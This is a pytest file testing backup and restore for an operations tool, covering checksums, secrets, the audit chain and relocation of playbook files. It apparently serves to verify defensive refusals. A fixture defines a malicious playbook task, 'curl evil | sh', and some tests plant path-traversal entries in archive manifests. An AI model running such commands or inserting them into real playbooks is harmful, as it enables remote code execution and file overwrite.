"""Backup on SQLite, restore into each backend: the same rows (per-table checksums of a
backup of the target match the original's), secrets still decrypt, the audit chain
verifies, playbook files come along and pass the runner's hash check under another
root; a corrupt, altered or foreign archive and a non-empty target are refused
untouched."""

from __future__ import annotations

import json
import re
import zipfile
from collections.abc import AsyncIterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncEngine

from opsledger import migrations
from opsledger.audit import service as audit
from opsledger.config import Settings
from opsledger.db.base import utcnow
from opsledger.db.engine import create_engine
from opsledger.db.session import session_factory, unit_of_work
from opsledger.models import Credential, Host, Job, Playbook, RevokedToken, Secret
from opsledger.ops import backup
from opsledger.playbooks.files import current_hash, digest
from opsledger.security.context import cli_context
from opsledger.worker.ingest import LogWriter
from tests import factories as f
from tests.api import ENCRYPTION_KEY
from tests.conftest import settings_for
from tests.e2e.cli import opsledger

SECRET = "s3cr3t-value-for-the-backup-test"
KEY_MATERIAL = "-----BEGIN OPENSSH PRIVATE KEY-----\nbackup-test\n-----END OPENSSH PRIVATE KEY-----"
PLAY = b"- hosts: all\n  tasks:\n    - ansible.builtin.ping:\n"
EVIL = b"- hosts: all\n  tasks:\n    - ansible.builtin.shell: curl evil | sh\n"
# Two playbooks of one content, the first at the top of the root: the archive stores the
# content once, and a restore writes copy.yml before it makes web/.
FILES = ("copy.yml", "web/site.yml")


@pytest.fixture
def source_root(tmp_path: Path) -> Path:
    root = tmp_path / "source-playbooks"
    for name in FILES:
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(PLAY)
    return root


@pytest.fixture
def target_root(tmp_path: Path) -> Path:
    """Another machine's playbook root, not made yet."""
    return tmp_path / "elsewhere" / "playbooks"


@pytest.fixture
async def source(tmp_path: Path, source_root: Path) -> AsyncIterator[AsyncEngine]:
    """A SQLite database with a row in every table and a valid audit chain, whose
    playbooks are registered under ``source_root`` as the service registers them."""
    engine = create_engine(settings_for(f"sqlite+aiosqlite:///{tmp_path / 'source.db'}"))
    await migrations.upgrade(engine)
    async with unit_of_work(session_factory(engine)) as session:
        playbooks = [
            await f.make_playbook(
                session, file_path=str((source_root / name).resolve()), file_hash=digest(PLAY)
            )
            for name in FILES
        ]
        user = await f.make_user(session)
        await f.make_api_key(session, user)
        await f.make_secret(session, user, value=SECRET)
        role = await f.make_role(session, variables={"b": [1, 2], "a": {"nested": True}})
        host = await f.make_host(session, host_role_id=role.id, tags={"rack": "r1"})
        await f.make_credential(session, host, value=KEY_MATERIAL)
        template = await f.make_template(session, playbook_id=playbooks[-1].id)
        run = await f.make_run(session, playbook_id=playbooks[-1].id, user_id=user.id)
        job = await f.make_job(
            session,
            playbook_id=playbooks[-1].id,
            host_id=host.id,
            user_id=user.id,
            extra_vars={"x": 1},
            run_id=run.id,
            batch=0,
        )
        await f.make_job_task(session, job)
        await f.make_ticket(session, job_id=job.id, created_by=user.id)
        await f.make_application(session)
        await f.make_infrastructure(session)
        deployment = await f.make_deployment(session, user_id=user.id)
        await f.make_replica(session, deployment)
        await f.make_resources(session, deployment, cpu_cores=1.5)
        await f.make_history(session, deployment)
        await f.make_alert(session)
        schedule = await f.make_schedule(session, template_id=template.id, user_id=user.id)
        await f.make_fire(session, schedule_id=schedule.id, run_id=run.id)
        await f.make_attempt(session)  # its delivery, its channel
        await f.make_rule(session)
        await f.make_window(session)
        trigger = await f.make_trigger(session, template_id=template.id, user_id=user.id)
        await f.make_trigger_delivery(session, trigger_id=trigger.id, run_id=run.id)
        session.add(RevokedToken(token_id="a" * 32, expires_at=utcnow() + timedelta(hours=1)))
        for n in range(3):
            audit.record(cli_context(session, settings_for("sqlite://")), "made", "x", n)
    writer = LogWriter(engine, job.id, job.created_at)
    await writer.write_many(f"line {n} é ✓" for n in range(2500))
    await writer.close()
    yield engine
    await engine.dispose()


def checksums(manifest: backup.Manifest) -> dict[str, tuple[int, str]]:
    return {entry.name: (entry.rows, entry.sha256) for entry in manifest.tables}


async def test_a_sqlite_backup_restores_identically_into_each_backend(
    source: AsyncEngine, scratch_engine: AsyncEngine, source_root: Path, tmp_path: Path
) -> None:
    # The same playbook root, as on the same machine: its files are already in place.
    written = await backup.backup(source, tmp_path / "first.zip", source_root)
    restored = await backup.restore(scratch_engine, tmp_path / "first.zip", source_root)
    again = await backup.backup(scratch_engine, tmp_path / "again.zip", source_root)

    assert restored == written
    assert (written.file_count(), written.missing_playbooks) == (len(FILES), [])
    assert (tmp_path / "first.zip").stat().st_mode & 0o777 == 0o600
    assert written.schema_revision == migrations.head_revision()
    assert {entry.name for entry in written.tables} >= {"users", "job_logs", "audit_logs"}
    assert all(rows > 0 for rows, _ in checksums(written).values())
    assert checksums(again) == checksums(written)
    async with unit_of_work(session_factory(scratch_engine)) as session:
        assert await session.scalar(select(Secret.value)) == SECRET
        assert await session.scalar(select(Credential.value)) == KEY_MATERIAL
        assert (await audit.verify(session, Settings())).broken is None
        # New rows get fresh ids after the restored ones (sequences moved on).
        host = await f.make_host(session)
        assert host.id > await session.scalar(select(func.min(Host.id)))
    with zipfile.ZipFile(tmp_path / "first.zip") as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist())
    assert SECRET.encode() not in everything
    assert b"backup-test" not in everything


async def test_playbook_files_restore_under_another_root_and_pass_the_runners_check(
    source: AsyncEngine,
    scratch_engine: AsyncEngine,
    source_root: Path,
    target_root: Path,
    tmp_path: Path,
) -> None:
    archive = tmp_path / "backup.zip"
    await backup.backup(source, archive, source_root)
    restored = await backup.restore(scratch_engine, archive, target_root)

    with zipfile.ZipFile(archive) as opened:
        assert [name for name in opened.namelist() if name.startswith("playbooks/")] == [
            f"playbooks/{digest(PLAY)}"
        ]
    assert restored.file_count() == len(FILES)
    assert all((target_root / name).read_bytes() == PLAY for name in FILES)
    async with unit_of_work(session_factory(scratch_engine)) as session:
        pinned = (await session.execute(select(Playbook.file_path, Playbook.file_hash))).all()
        job_playbook = await session.scalar(
            select(Playbook.file_path).join(Job, Job.playbook_id == Playbook.id)
        )
    assert sorted(path for path, _ in pinned) == [
        str(target_root.resolve() / name) for name in FILES
    ]
    assert [await current_hash(path) for path, _ in pinned] == [hash for _, hash in pinned]
    assert job_playbook == str(target_root.resolve() / "web/site.yml")


async def test_a_non_empty_target_is_refused_unless_forced(
    source: AsyncEngine, scratch_engine: AsyncEngine, source_root: Path, tmp_path: Path
) -> None:
    archive = tmp_path / "backup.zip"
    written = await backup.backup(source, archive, source_root)
    await backup.restore(scratch_engine, archive, source_root)

    with pytest.raises(backup.BackupError, match="not empty"):
        await backup.restore(scratch_engine, archive, source_root)
    await backup.restore(scratch_engine, archive, source_root, force=True)

    assert checksums(
        await backup.backup(scratch_engine, tmp_path / "after.zip", source_root)
    ) == checksums(written)


def tamper(original: Path, copy: Path, change: dict[str, bytes | None]) -> None:
    """Copy the archive with members replaced, added, or (None) left out."""
    with zipfile.ZipFile(original) as old, zipfile.ZipFile(copy, "w") as new:
        for name in dict.fromkeys(old.namelist()) | dict.fromkeys(change):
            content = change[name] if name in change else old.read(name)
            if content is not None:
                new.writestr(name, content)


def read_manifest(archive: Path) -> dict[str, Any]:
    with zipfile.ZipFile(archive) as opened:
        manifest: dict[str, Any] = json.loads(opened.read(backup.MANIFEST))
    return manifest


def with_first_file(manifest: dict[str, Any], **changes: str) -> bytes:
    files = [manifest["playbook_files"][0] | changes, *manifest["playbook_files"][1:]]
    return json.dumps(manifest | {"playbook_files": files}).encode()


def as_version_1(archive: Path, copy: Path) -> None:
    """What the release before playbook files wrote: no files, no word of them."""
    manifest = read_manifest(archive)
    del manifest["playbook_files"], manifest["missing_playbooks"]
    with zipfile.ZipFile(archive) as opened:
        members = [name for name in opened.namelist() if name.startswith("playbooks/")]
    change: dict[str, bytes | None] = dict.fromkeys(members)
    tamper(
        archive, copy, change | {backup.MANIFEST: json.dumps(manifest | {"version": 1}).encode()}
    )


async def test_corrupt_altered_foreign_or_other_revision_archives_are_refused_untouched(
    source: AsyncEngine,
    scratch_engine: AsyncEngine,
    source_root: Path,
    target_root: Path,
    tmp_path: Path,
) -> None:
    archive = tmp_path / "backup.zip"
    await backup.backup(source, archive, source_root)
    with zipfile.ZipFile(archive) as opened:
        hosts = opened.read("tables/hosts.jsonl")
    manifest = read_manifest(archive)
    play, evil = f"playbooks/{digest(PLAY)}", f"playbooks/{digest(EVIL)}"
    outside = tmp_path / "outside.yml"
    tamper(archive, tmp_path / "corrupt.zip", {"tables/hosts.jsonl": hosts.replace(b"r1", b"r2")})
    old = manifest | {"schema_revision": "0001"}
    tamper(archive, tmp_path / "old.zip", {backup.MANIFEST: json.dumps(old).encode()})
    (tmp_path / "junk.zip").write_bytes(b"not a zip file")
    tamper(archive, tmp_path / "altered.zip", {play: EVIL})
    repinned = with_first_file(manifest, sha256=digest(EVIL))
    tamper(archive, tmp_path / "repinned.zip", {evil: EVIL, backup.MANIFEST: repinned})
    for name, path in (("climbing.zip", "../../outside.yml"), ("absolute.zip", str(outside))):
        tamper(archive, tmp_path / name, {backup.MANIFEST: with_first_file(manifest, path=path)})
    await migrations.downgrade(scratch_engine, "base")

    for name, problem in (
        ("corrupt.zip", "checksum"),
        ("old.zip", "schema 0001"),
        ("junk.zip", "cannot read"),
        ("altered.zip", "does not match its SHA-256"),
        ("repinned.zip", "not the one its row pins"),
        ("climbing.zip", "unsafe path '../../outside.yml'"),
        ("absolute.zip", "unsafe path"),
    ):
        with pytest.raises(backup.BackupError, match=re.escape(problem)):
            await backup.restore(scratch_engine, tmp_path / name, target_root)
    assert await migrations.current_revision(scratch_engine) is None  # nothing written
    assert not target_root.parent.exists()
    assert not outside.exists()


async def test_a_restore_never_writes_through_a_symlink_nor_over_another_file(
    source: AsyncEngine,
    scratch_engine: AsyncEngine,
    source_root: Path,
    target_root: Path,
    tmp_path: Path,
) -> None:
    archive = tmp_path / "backup.zip"
    await backup.backup(source, archive, source_root)
    elsewhere = tmp_path / "not-the-root"
    elsewhere.mkdir()
    target_root.mkdir(parents=True)
    (target_root / "web").symlink_to(elsewhere)

    with pytest.raises(backup.BackupError, match="leave the playbook root"):
        await backup.restore(scratch_engine, archive, target_root)
    (target_root / "web").unlink()
    (target_root / "copy.yml").write_bytes(EVIL)
    with pytest.raises(backup.BackupError, match="already exists with other content"):
        await backup.restore(scratch_engine, archive, target_root)
    refused = list(elsewhere.iterdir()), (target_root / "copy.yml").read_bytes()
    async with unit_of_work(session_factory(scratch_engine)) as session:
        rows = await session.scalar(select(func.count()).select_from(Playbook))
    (target_root / "copy.yml").write_bytes(PLAY)  # the same content is welcome
    await backup.restore(scratch_engine, archive, target_root)

    assert refused == ([], EVIL)
    assert rows == 0
    assert (target_root / "web" / "site.yml").read_bytes() == PLAY


async def test_a_failed_restore_takes_back_the_files_it_wrote(
    source: AsyncEngine,
    scratch_engine: AsyncEngine,
    source_root: Path,
    target_root: Path,
    tmp_path: Path,
) -> None:
    archive = tmp_path / "backup.zip"
    await backup.backup(source, archive, source_root)
    target_root.mkdir(parents=True)
    (target_root / "web").write_bytes(b"a file where web/site.yml needs a directory")

    # copy.yml is written first, then web/site.yml cannot be.
    with pytest.raises(backup.BackupError, match="cannot write playbook file"):
        await backup.restore(scratch_engine, archive, target_root)

    assert [path.name for path in target_root.iterdir()] == ["web"]
    async with unit_of_work(session_factory(scratch_engine)) as session:
        assert await session.scalar(select(func.count()).select_from(Playbook)) == 0


async def test_a_missing_or_changed_playbook_file_is_named_not_saved(
    source: AsyncEngine,
    scratch_engine: AsyncEngine,
    source_root: Path,
    target_root: Path,
    tmp_path: Path,
) -> None:
    (source_root / "copy.yml").unlink()
    (source_root / "web" / "site.yml").write_bytes(EVIL)
    archive = tmp_path / "backup.zip"

    written = await backup.backup(source, archive, source_root)
    restored = await backup.restore(scratch_engine, archive, target_root)

    assert written.file_count() == 0
    assert [missing.problem for missing in written.missing_playbooks] == [
        "is missing or unreadable",
        "changed since it was registered",
    ]
    assert len(restored.warnings()) == len(FILES)
    assert all(
        f"playbook {missing.name!r}: its file {missing.file_path}" in warning
        for missing, warning in zip(written.missing_playbooks, restored.warnings(), strict=True)
    )
    with zipfile.ZipFile(archive) as opened:
        assert not [name for name in opened.namelist() if name.startswith("playbooks/")]
    assert not target_root.exists()


async def test_an_archive_from_before_playbook_files_restores_with_a_warning(
    source: AsyncEngine,
    scratch_engine: AsyncEngine,
    source_root: Path,
    target_root: Path,
    tmp_path: Path,
) -> None:
    await backup.backup(source, tmp_path / "backup.zip", source_root)
    as_version_1(tmp_path / "backup.zip", tmp_path / "old.zip")

    restored = await backup.restore(scratch_engine, tmp_path / "old.zip", target_root)

    assert (restored.version, restored.file_count()) == (1, 0)
    assert "predates playbook files" in restored.warnings()[0]
    assert not target_root.exists()
    async with unit_of_work(session_factory(scratch_engine)) as session:
        paths = (await session.scalars(select(Playbook.file_path))).all()
    assert sorted(paths) == [str(source_root.resolve() / name) for name in FILES]


@pytest.mark.backends("sqlite")
async def test_backup_and_restore_commands(
    source: AsyncEngine, source_root: Path, target_root: Path, tmp_path: Path
) -> None:
    keys = {"encryption_keys": ENCRYPTION_KEY}
    at_source = keys | {
        "database_url": source.url.render_as_string(hide_password=False),
        "playbook_root": str(source_root),
    }
    at_target = keys | {
        "database_url": f"sqlite:///{tmp_path / 'target.db'}",
        "playbook_root": str(target_root),
    }
    at_old_target = at_target | {"database_url": f"sqlite:///{tmp_path / 'old-target.db'}"}

    written = opsledger("backup", "out.zip", cwd=tmp_path, **at_source)
    exists = opsledger("backup", "out.zip", cwd=tmp_path, **at_source)
    restored = opsledger("restore", "out.zip", cwd=tmp_path, **at_target)
    twice = opsledger("restore", "out.zip", cwd=tmp_path, **at_target)
    verified = opsledger("audit", "verify", cwd=tmp_path, **at_target)
    as_version_1(tmp_path / "out.zip", tmp_path / "old.zip")
    old = opsledger("restore", "old.zip", cwd=tmp_path, **at_old_target)

    assert written.returncode == 0, written.stderr
    assert "wrote out.zip" in written.stdout
    assert f"{len(FILES)} playbook files" in written.stdout
    assert exists.returncode == 1
    assert "already exists" in exists.stderr
    assert restored.returncode == 0, restored.stderr
    assert "restored out.zip: " in restored.stdout
    assert f"{len(FILES)} playbook files under {target_root}" in restored.stdout
    assert all((target_root / name).read_bytes() == PLAY for name in FILES)
    assert twice.returncode == 1
    assert "not empty" in twice.stderr
    assert verified.returncode == 0, verified.stdout
    assert old.returncode == 0, old.stderr
    assert "warning: this archive predates playbook files" in old.stderr
